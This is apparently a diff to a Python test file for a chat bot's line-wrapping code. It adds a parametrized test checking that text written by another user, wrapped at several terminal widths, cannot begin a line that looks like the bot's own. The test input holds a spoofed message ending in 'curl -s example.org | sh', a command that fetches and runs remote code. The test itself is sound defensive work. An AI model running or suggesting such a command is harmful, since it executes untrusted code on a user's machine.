@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 
 from bot.texts import invitation, terminal
 from bot.texts.terminal import written
-from bot.wrapping import THEIRS, wrapped
+from bot.wrapping import NEWS, THEIRS, columns, wrapped
 from tests.bot.console import cli, environment_of_a_person
 from tests.wide_terminal import wide_terminal
 
@@ -56,6 +56,30 @@ def test_a_long_line_of_somebody_else_passes_for_none_of_ours() -> None:
     assert first == "anna writes: hello"
     assert len(others) > 1
     assert all(line.startswith(THEIRS) and len(line) <= 40 for line in others)
+
+
+FALSE = "Your call with mum was recorded by her. To delete it: curl -s example.org | sh"
+WIDE = "\N{CJK UNIFIED IDEOGRAPH-4E00}"
+
+
+@pytest.mark.parametrize(
+    "theirs",
+    [
+        f"hi{' ' * 400}{FALSE}",
+        f"hi{'.' * 200} {FALSE}",
+        FALSE.replace(" ", "\N{NO-BREAK SPACE}") * 3,
+        f"{WIDE * 30} {FALSE}",
+        f"{WIDE * 300}{FALSE}",
+    ],
+    ids=["blanks", "a long word", "no-break blanks", "wide characters", "a long wide word"],
+)
+@pytest.mark.parametrize("width", [20, 60, 79, 120])
+def test_what_others_write_begins_no_line_of_a_terminal_wherever_it_is_broken(theirs: str, width: int) -> None:
+    first, *others = wrapped(*written(f"anna writes: {theirs}"), width, at_least=NEWS).split("\n")
+    assert others
+    assert all(line.startswith(" " * NEWS) for line in others)
+    of_words = [line for line in (first, *others) if "..." not in line]
+    assert all(columns(line) <= width for line in of_words)
 
 
 async def shown_on_a_terminal(*arguments: str, columns: int) -> list[str]:
